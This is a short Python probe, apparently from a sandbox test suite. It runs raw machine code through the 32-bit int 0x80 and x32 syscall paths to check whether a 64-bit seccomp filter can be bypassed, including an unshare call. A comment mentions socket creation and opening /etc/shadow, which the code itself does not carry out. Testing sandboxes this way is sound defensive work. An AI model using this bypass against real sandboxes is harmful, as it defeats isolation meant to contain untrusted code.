"""Makes system calls by the 32-bit table and by x32's numbers, where a filter for 64 bits might not look.

Stopped by: seccomp
"""

import ctypes
import mmap
import os
import platform

# Each in a child, for the filter may kill it: socket(AF_INET, SOCK_STREAM, 0), and open("/etc/shadow").
CODES = {
    "int 0x80, getpid": b"\xb8\x14\x00\x00\x00\xcd\x80\xc3",
    "int 0x80, unshare": b"\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\xc3",
    "x32, getpid": b"\xb8\x27\x00\x00\x40\x0f\x05\xc3",
    "x32, unshare": b"\xb8\x10\x01\x00\x40\xbf\x00\x00\x00\x10\x0f\x05\xc3",
}
if platform.machine() == "x86_64":
    for name, code in CODES.items():
        if os.fork() == 0:
            page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
            page.write(code)
            result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
            os._exit(0 if result >= 0 else 1)
        if os.waitstatus_to_exitcode(os.wait()[1]) == 0:
            print("ESCAPED:", name)
print("tried")
